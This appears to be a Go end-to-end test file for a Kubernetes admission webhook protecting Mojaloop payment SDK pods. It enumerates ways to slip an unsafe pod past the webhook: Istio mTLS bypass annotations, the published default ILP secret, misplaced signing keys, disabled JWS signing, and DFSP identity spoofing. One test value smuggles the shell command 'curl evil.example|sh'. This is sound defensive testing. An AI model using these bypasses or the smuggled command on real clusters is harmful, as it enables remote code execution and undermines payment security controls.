package e2e

import (
	"encoding/base64"
	"encoding/json"
	"slices"
	"strings"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/mojasec/mojasec/test/fixtures"
)

// vector is one way to get an unsafe pod in.
type vector struct {
	name string
	// want is the check that refuses it.
	want string
	// objects exist before; the webhook lets them in.
	objects []runtime.Object
	tweak   func(*corev1.PodTemplateSpec)
}

func sdkContainer(p *corev1.PodTemplateSpec) *corev1.Container { return &p.Spec.Containers[0] }

// setEnv replaces an environment variable.
func setEnv(p *corev1.PodTemplateSpec, vars ...corev1.EnvVar) {
	c := sdkContainer(p)
	for _, v := range vars {
		c.Env = append(slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == v.Name }), v)
	}
}

func unsetEnv(p *corev1.PodTemplateSpec, name string) {
	c := sdkContainer(p)
	c.Env = slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == name })
}

func literal(name, value string) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { setEnv(p, corev1.EnvVar{Name: name, Value: value}) }
}

func annotate(key, value string) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { metav1.SetMetaDataAnnotation(&p.ObjectMeta, key, value) }
}

func labelled(key, value string) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { metav1.SetMetaDataLabel(&p.ObjectMeta, key, value) }
}

func fromField(name, path string) corev1.EnvVar {
	return corev1.EnvVar{Name: name, ValueFrom: &corev1.EnvVarSource{FieldRef: &corev1.ObjectFieldSelector{FieldPath: path}}}
}

func named(kind, name string) (metav1.TypeMeta, metav1.ObjectMeta) {
	return metav1.TypeMeta{APIVersion: "v1", Kind: kind}, metav1.ObjectMeta{Namespace: fixtures.Namespace, Name: name}
}

func configMap(name string, data map[string]string) *corev1.ConfigMap {
	t, m := named("ConfigMap", name)
	return &corev1.ConfigMap{TypeMeta: t, ObjectMeta: m, Data: data}
}

func secret(name string, data map[string]string) *corev1.Secret {
	t, m := named("Secret", name)
	return &corev1.Secret{TypeMeta: t, ObjectMeta: m, StringData: data}
}

func envFromMap(prefix, name string) corev1.EnvFromSource {
	return corev1.EnvFromSource{Prefix: prefix, ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: name}}}
}

// keyVolume replaces the volume of the signing key.
func keyVolume(source corev1.VolumeSource) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { p.Spec.Volumes[0].VolumeSource = source }
}

func sidecar(c corev1.Container) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { p.Spec.Containers = append(p.Spec.Containers, c) }
}

func initContainer(c corev1.Container) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) { p.Spec.InitContainers = append(p.Spec.InitContainers, c) }
}

func both(fs ...func(*corev1.PodTemplateSpec)) func(*corev1.PodTemplateSpec) {
	return func(p *corev1.PodTemplateSpec) {
		for _, f := range fs {
			f(p)
		}
	}
}

func templateVectors() []vector {
	return slices.Concat(meshVectors(), secretVectors(), keyVectors(), switchVectors(), disguiseVectors())
}

func meshVectors() []vector {
	const inMesh, bypass = "mtls-in-mesh", "mtls-no-bypass"
	return []vector{
		{name: "label keeps the sidecar out", want: inMesh, tweak: labelled("sidecar.istio.io/inject", "false")},
		{name: "annotation keeps the sidecar out", want: inMesh, tweak: annotate("sidecar.istio.io/inject", "false")},
		{name: "label wins over annotation", want: inMesh, tweak: both(annotate("sidecar.istio.io/inject", "true"), labelled("sidecar.istio.io/inject", "false"))},
		{name: "host network", want: inMesh, tweak: func(p *corev1.PodTemplateSpec) { p.Spec.HostNetwork = true }},
		{name: "claims ambient among sidecars", want: inMesh, tweak: both(labelled("sidecar.istio.io/inject", "false"), labelled("istio.io/dataplane-mode", "ambient"))},
		{name: "inbound port excluded", want: bypass, tweak: annotate("traffic.sidecar.istio.io/excludeInboundPorts", "4000")},
		{name: "outbound port excluded", want: bypass, tweak: annotate("traffic.sidecar.istio.io/excludeOutboundPorts", "3306,3002")},
		{name: "no inbound port included", want: bypass, tweak: annotate("traffic.sidecar.istio.io/includeInboundPorts", "")},
		{name: "one inbound port included", want: bypass, tweak: annotate("traffic.sidecar.istio.io/includeInboundPorts", "15000")},
		{name: "outbound ranges included", want: bypass, tweak: annotate("traffic.sidecar.istio.io/includeOutboundIPRanges", "192.0.2.0/24")},
		{name: "outbound ranges excluded", want: bypass, tweak: annotate("traffic.sidecar.istio.io/excludeOutboundIPRanges", "0.0.0.0/0")},
		{name: "interface excluded", want: bypass, tweak: annotate("traffic.sidecar.istio.io/excludeInterfaces", "eth0")},
		{name: "interception off", want: bypass, tweak: annotate("sidecar.istio.io/interceptionMode", "NONE")},
		{name: "interception off in the proxy config", want: bypass, tweak: annotate("proxy.istio.io/config", "interceptionMode: NONE")},
		{name: "another injection template", want: bypass, tweak: annotate("inject.istio.io/templates", "grpc-agent")},
		{name: "runs as the proxy's user", want: bypass, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).SecurityContext = &corev1.SecurityContext{RunAsUser: new(int64(1337))}
		}},
		{name: "pod runs as the proxy's user", want: bypass, tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: new(int64(1337))}
		}},
		{name: "runs in the proxy's group", want: bypass, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).SecurityContext = &corev1.SecurityContext{RunAsGroup: new(int64(1337))}
		}},
		{name: "container named as the proxy", want: bypass, tweak: sidecar(corev1.Container{Name: "istio-proxy", Image: "example.org/forwarder:1"})},
		{name: "native sidecar named as the proxy", want: bypass, tweak: initContainer(corev1.Container{
			Name: "istio-proxy", Image: "example.org/forwarder:1", RestartPolicy: new(corev1.ContainerRestartPolicyAlways),
		})},
		{name: "network admin", want: bypass, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_ADMIN"}}}
		}},
		{name: "privileged sidecar", want: bypass, tweak: sidecar(corev1.Container{
			Name: "net", Image: "example.org/net:1", SecurityContext: &corev1.SecurityContext{Privileged: new(true)},
		})},
		{name: "SDK called as the proxy", want: inMesh, tweak: func(p *corev1.PodTemplateSpec) {
			p.Labels = map[string]string{"sidecar.istio.io/inject": "false"}
			sdkContainer(p).Name = "istio-proxy"
		}},
		{name: "proxy that sleeps", want: bypass, tweak: sidecar(corev1.Container{Name: "istio-proxy", Image: "docker.io/istio/proxyv2:1.31.4", Command: []string{"sleep", "infinity"}})},
		{name: "capture of no port", want: bypass, tweak: initContainer(corev1.Container{Name: "istio-init", Image: "docker.io/istio/proxyv2:1.31.4", Args: []string{"istio-iptables", "-b", ""}})},
		{name: "callers told to speak plain text", want: bypass, tweak: labelled("security.istio.io/tlsMode", "disabled")},
		{name: "privileged init container", want: bypass, tweak: initContainer(corev1.Container{
			Name: "rules", Image: "example.org/iptables:1", SecurityContext: &corev1.SecurityContext{Privileged: new(true)},
		})},
	}
}

func secretVectors() []vector {
	const notDefault, set = "ilp-secret-not-default", "ilp-secret-set"
	const published = fixtures.PublishedILPDefault
	return []vector{
		{name: "published secret", want: notDefault, tweak: literal("ILP_SECRET", published)},
		{name: "published secret in quotes and blanks", want: notDefault, tweak: literal("ILP_SECRET", " \""+published+"\"\n")},
		{name: "the last of two variables is published", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			c := sdkContainer(p)
			c.Env = append(c.Env, corev1.EnvVar{Name: "ILP_SECRET", Value: "mojaloop-sdk"})
		}},
		{name: "published secret through a variable", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			unsetEnv(p, "ILP_SECRET")
			setEnv(p, corev1.EnvVar{Name: "HALF", Value: "mojaloop"}, corev1.EnvVar{Name: "ILP_SECRET", Value: "$(HALF)-sdk"})
		}},
		{name: "published secret through the downward API", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			unsetEnv(p, "ILP_SECRET")
			metav1.SetMetaDataAnnotation(&p.ObjectMeta, "note", published)
			setEnv(p, fromField("ILP_SECRET", "metadata.annotations['note']"))
		}},
		{
			name: "published secret through envFrom", want: notDefault,
			objects: []runtime.Object{configMap("flags", map[string]string{"SECRET": published})},
			tweak: func(p *corev1.PodTemplateSpec) {
				unsetEnv(p, "ILP_SECRET")
				sdkContainer(p).EnvFrom = []corev1.EnvFromSource{envFromMap("ILP_", "flags")}
			},
		},
		{
			name: "published secret through envFrom with a prefix", want: notDefault,
			objects: []runtime.Object{secret("harmless", map[string]string{"SECRET": published})},
			tweak: func(p *corev1.PodTemplateSpec) {
				unsetEnv(p, "ILP_SECRET")
				sdkContainer(p).EnvFrom = []corev1.EnvFromSource{{Prefix: "ILP_", SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "harmless"}}}}
			},
		},
		{
			name: "published secret under another key", want: notDefault,
			objects: []runtime.Object{secret("harmless", map[string]string{"x": published})},
			tweak: func(p *corev1.PodTemplateSpec) {
				setEnv(p, corev1.EnvVar{Name: "ILP_SECRET", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "harmless"}, Key: "x"}}})
			},
		},
		{name: "published secret on the command line", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"sh", "-c", "ILP_SECRET=" + published + " exec node src/index.js"}
		}},
		{name: "published secret in an init container", want: notDefault, tweak: initContainer(corev1.Container{
			Name: "migrate", Image: "mojaloop/sdk-scheme-adapter:v24", Env: []corev1.EnvVar{{Name: "ILP_SECRET", Value: published}},
		})},
		{name: "published secret of the connector", want: notDefault, tweak: sidecar(corev1.Container{
			Name: "connector", Image: "mojaloop/mojaloop-core-connector:v1", Env: []corev1.EnvVar{{Name: "FSPIOP_ILP_SECRET", Value: published}},
		})},
		{name: "published secret put together by a shell", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"sh", "-c", "ILP_SECRET=moja'loop-sdk' exec node src/index.js"}
		}},
		{name: "secret unset on the command line", want: notDefault, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"env", "-u", "ILP_SECRET", "node", "src/index.js"}
		}},
		{
			name: "half of a published secret in a ConfigMap", want: notDefault,
			objects: []runtime.Object{configMap("half", map[string]string{"x": "mojaloop"})},
			tweak: func(p *corev1.PodTemplateSpec) {
				unsetEnv(p, "ILP_SECRET")
				setEnv(p, corev1.EnvVar{Name: "HALF", ValueFrom: &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "half"}, Key: "x"}}}, corev1.EnvVar{Name: "ILP_SECRET", Value: "$(HALF)-sdk"})
			},
		},
		{name: "empty secret", want: set, tweak: literal("ILP_SECRET", "")},
		{name: "secret that does not exist", want: set, tweak: func(p *corev1.PodTemplateSpec) {
			setEnv(p, corev1.EnvVar{Name: "ILP_SECRET", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "nowhere"}, Key: "x", Optional: new(true)}}})
		}},
		{name: "fulfilment not checked", want: "ilp-checked", tweak: literal("CHECK_ILP", "false")},
		{name: "transfers without a quote", want: "ilp-quote-required", tweak: literal("ALLOW_TRANSFER_WITHOUT_QUOTE", "TRUE")},
	}
}

func keyVectors() []vector {
	const signing, peers = "jws-signing-key-mounted", "jws-verification-keys-mounted"
	key := string(fixtures.NewKeyPair().Private)
	escaped, _ := json.Marshal(map[string]string{"key": key})
	return []vector{
		{name: "key in an emptyDir", want: signing, tweak: keyVolume(corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}})},
		{name: "key on the host", want: signing, tweak: keyVolume(corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/keys"}})},
		{name: "key in a ConfigMap", want: signing, tweak: keyVolume(corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "mojaloop-jws-verification-keys"}}})},
		{name: "key in a claim", want: signing, tweak: keyVolume(corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "keys"}})},
		{name: "key in an image volume", want: signing, tweak: keyVolume(corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: "example.org/keys:1"}})},
		{name: "key in a Secret that does not exist", want: signing, tweak: keyVolume(corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "nowhere", Optional: new(true)}})},
		{name: "key from the downward API", want: signing, tweak: both(annotate("note", "key"), keyVolume(corev1.VolumeSource{DownwardAPI: &corev1.DownwardAPIVolumeSource{
			Items: []corev1.DownwardAPIVolumeFile{{Path: "jwsSigningKey.pem", FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.annotations['note']"}}},
		}}))},
		{name: "demo key in the image", want: signing, tweak: literal("JWS_SIGNING_KEY_PATH", "secrets/jwsSigningKey.key")},
		{name: "demo key by the command line", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"sh", "-c", "JWS_SIGNING_KEY_PATH=secrets/jwsSigningKey.key exec node src/index.js"}
		}},
		{name: "key under another name", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes[0].Secret.Items = []corev1.KeyToPath{{Key: "jwsSigningKey.pem", Path: "other.pem"}}
		}},
		{name: "mount over the key", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "scratch", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
			c := sdkContainer(p)
			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "scratch", MountPath: "/opt/app/secrets/jwsSigningKey.pem", SubPath: "x"})
		}},
		{name: "second SDK without a key", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			c := *sdkContainer(p).DeepCopy()
			c.Name, c.VolumeMounts = "second", nil
			sidecar(c)(p)
		}},
		{name: "key of another DFSP", want: "jws-key-pair-match", tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes[0].Secret.SecretName = fixtures.DFSP2 + "-jws-keys"
		}},
		{name: "peers' keys in the image", want: peers, tweak: literal("JWS_VERIFICATION_KEYS_DIRECTORY", "/opt/app/modules/api-svc/secrets/jwsVerificationKeys")},
		{name: "peers' keys in an emptyDir", want: peers, tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes[1].VolumeSource = corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}
		}},
		{name: "mount over a peer's key", want: peers, tweak: func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "scratch", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
			c := sdkContainer(p)
			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "scratch", MountPath: "/opt/app/secrets/jwsVerificationKeys/" + fixtures.DFSP2 + ".pem", SubPath: "x"})
		}},
		{name: "private key in the environment", want: "private-key-in-clear", tweak: literal("MY_KEY", key)},
		{name: "private key as an argument", want: "private-key-in-clear", tweak: func(p *corev1.PodTemplateSpec) { sdkContainer(p).Args = []string{"--key", key} }},
		{name: "private key in an annotation", want: "private-key-in-clear", tweak: annotate("note", base64.StdEncoding.EncodeToString([]byte(key)))},
		{name: "private key escaped in JSON", want: "private-key-in-clear", tweak: annotate("note", string(escaped))},
	}
}

func switchVectors() []vector {
	const signing = "jws-signing-enabled"
	return []vector{
		{name: "signing off", want: signing, tweak: literal("JWS_SIGN", "False")},
		{name: "signing off by number", want: signing, tweak: literal("JWS_SIGN", "0")},
		{name: "signing off by the last of two", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			c := sdkContainer(p)
			c.Env = append(c.Env, corev1.EnvVar{Name: "JWS_SIGN", Value: "false"})
		}},
		{name: "signing off through the downward API", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			metav1.SetMetaDataLabel(&p.ObjectMeta, "sign", "false")
			setEnv(p, fromField("JWS_SIGN", "metadata.labels['sign']"))
		}},
		{
			name: "signing off through envFrom with a prefix", want: signing,
			objects: []runtime.Object{configMap("flags", map[string]string{"SIGN": "false"})},
			tweak: func(p *corev1.PodTemplateSpec) {
				unsetEnv(p, "JWS_SIGN")
				sdkContainer(p).EnvFrom = []corev1.EnvFromSource{envFromMap("JWS_", "flags")}
			},
		},
		{name: "signing off on the command line", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"sh", "-c", "JWS_SIGN=false exec node src/index.js"}
		}},
		{name: "signing off as an amount of nothing", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			setEnv(p, corev1.EnvVar{Name: "JWS_SIGN", ValueFrom: &corev1.EnvVarSource{ResourceFieldRef: &corev1.ResourceFieldSelector{Resource: "requests.cpu"}}})
		}},
		{name: "signing off behind much text", want: signing, tweak: func(p *corev1.PodTemplateSpec) {
			setEnv(
				p, corev1.EnvVar{Name: "LONG", Value: strings.Repeat("x", 70<<10)}, corev1.EnvVar{Name: "USE", Value: "$(LONG)"},
				corev1.EnvVar{Name: "OFF", Value: "false"}, corev1.EnvVar{Name: "JWS_SIGN", Value: "$(OFF)"},
			)
		}},
		{
			name: "signing off in a mounted .env", want: signing,
			objects: []runtime.Object{configMap("dotenv", map[string]string{".env": "JWS_SIGN=false"})},
			tweak: func(p *corev1.PodTemplateSpec) {
				unsetEnv(p, "JWS_SIGN")
				p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "dotenv", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "dotenv"}}}})
				c := sdkContainer(p)
				c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "dotenv", MountPath: "/opt/app/modules/api-svc/.env", SubPath: ".env"})
			},
		},
		{name: "verification off", want: "jws-validation-enabled", tweak: literal("VALIDATE_INBOUND_JWS", "false")},
	}
}

func disguiseVectors() []vector {
	const identity = "dfsp-identity"
	return []vector{
		{name: "nobody", want: identity, tweak: both(func(p *corev1.PodTemplateSpec) { unsetEnv(p, "DFSP_ID") })},
		{name: "another DFSP", want: identity, tweak: literal("DFSP_ID", fixtures.DFSP2)},
		{name: "another DFSP, label included", want: "jws-key-pair-match", tweak: both(literal("DFSP_ID", fixtures.DFSP2), labelled("dfsp", fixtures.DFSP2))},
		{name: "another DFSP by name of the pod", want: identity, tweak: both(labelled("as", fixtures.DFSP2), func(p *corev1.PodTemplateSpec) {
			setEnv(p, fromField("DFSP_ID", "metadata.labels['as']"))
		})},
		{name: "renamed image without labels", want: "ilp-secret-not-default", tweak: both(literal("ILP_SECRET", fixtures.PublishedILPDefault), func(p *corev1.PodTemplateSpec) {
			p.Labels, sdkContainer(p).Image = nil, "mirror.example.org/tools/adapter:1"
		})},
		{name: "somebody mounts the key of a DFSP", want: identity, tweak: func(p *corev1.PodTemplateSpec) {
			p.Labels = nil
			p.Spec.Containers = []corev1.Container{{
				Name: "logger", Image: "docker.io/library/nginx:1.29",
				VolumeMounts: []corev1.VolumeMount{{Name: "jws-keys", MountPath: "/data", ReadOnly: true}},
			}}
		}},
		{name: "Helm hook", want: "jws-signing-key-mounted", tweak: both(annotate("helm.sh/hook", "pre-install"), literal("JWS_SIGNING_KEY_PATH", "secrets/jwsSigningKey.key"))},
		{name: "mirror of a static pod", want: "mtls-in-mesh", tweak: both(annotate("kubernetes.io/config.source", "file"), labelled("sidecar.istio.io/inject", "false"))},
		{name: "words of an event handler", want: "jws-signing-key-mounted", tweak: both(literal("JWS_SIGNING_KEY_PATH", "secrets/jwsSigningKey.key"), func(p *corev1.PodTemplateSpec) {
			sdkContainer(p).Command = []string{"sh", "-c", "exec node src/index.js", "start:cmd-evt-handler"}
		})},
		{name: "annotation that asks for an exception", want: "mtls-in-mesh", tweak: both(
			annotate("mojasec.io/waiver", "legacy"), annotate("mojasec.io/ignore", "true"), labelled("mojasec.io/mode", "audit"), labelled("sidecar.istio.io/inject", "false"),
		)},
		{name: "id that is shell text", want: identity, tweak: func(p *corev1.PodTemplateSpec) {
			delete(p.Labels, "dfsp")
			literal("DFSP_ID", "x; curl evil.example|sh #")(p)
		}},
	}
}
